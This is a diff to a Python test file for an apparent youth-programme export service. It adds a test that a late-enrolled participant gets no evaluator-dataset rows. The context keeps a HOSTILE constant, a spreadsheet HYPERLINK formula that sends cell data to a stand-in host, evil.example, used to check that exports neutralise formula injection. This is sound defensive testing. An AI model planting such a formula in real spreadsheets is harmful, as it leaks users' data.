@@ -2,6 +2,7 @@
 import csv
 import io
 import re
+from datetime import date, timedelta
 from itertools import groupby
 
 import openpyxl
@@ -11,10 +12,11 @@ from sqlalchemy import select
 from outreach.errors import PermissionDeniedError
 from outreach.exports.writers import csv_chunks, write_xlsx
 from outreach.metrics import Settings
-from outreach.models import Attendance, AuditEvent
+from outreach.models import (Attendance, AuditEvent, FeedbackAnswer, FeedbackResponse, Registration, Survey,
+                             SurveyQuestion)
 from outreach.services.exports import run_export
 from tests.course import AS_OF, course  # noqa: F401  (fixture)
-from tests.factories import make_user
+from tests.factories import make_user, make_young_person
 
 KEY = b"test pseudonym key"
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -180,7 +182,6 @@ def test_evaluator_dataset_keeps_typed_in_text_inert(course, db):
 
 
 def test_evaluator_dataset_puts_each_answer_in_its_participant_and_session_row(course, db):
-    from outreach.models import FeedbackAnswer, FeedbackResponse, Survey, SurveyQuestion
     programme, s, people = course["programme"], course["s"], course["people"]
 
     def survey(kind, codes):
@@ -203,6 +204,10 @@ def test_evaluator_dataset_puts_each_answer_in_its_participant_and_session_row(c
     answer(start, "B", {"trusted_adult": 1})
     answer(after, "A", {"enjoyed": 5}, session=s[2])
     answer(after, "B", {"enjoyed": 4}, session=s[1])
+    # Enrolled after the last held session: a participant, offered nothing yet, so no rows.
+    late = make_young_person("Late", dob=date(2013, 1, 1), gender="girl", postcode_district="M15")
+    db.session.add(Registration(young_person_id=late.id, programme_id=programme.id, status="confirmed",
+                                created_at=AS_OF - timedelta(hours=2), confirmed_at=AS_OF - timedelta(hours=2)))
     db.session.flush()
 
     rows = run(course, "evaluator_dataset")
@@ -210,7 +215,7 @@ def test_evaluator_dataset_puts_each_answer_in_its_participant_and_session_row(c
                        "start survey: felt_safe", "start survey: trusted_adult", "end survey: felt_safe",
                        "end survey: trusted_adult", "Session date", "Attended", "after-session survey: enjoyed"]
     data = body(rows)
-    assert len(data) == 22
+    assert len(data) == 22 and "M15" not in {r[3] for r in data}
     # Each participant's rows come together.
     runs = [code for code, _ in groupby(r[0] for r in data)]
     assert len(runs) == len(set(runs)) == 5
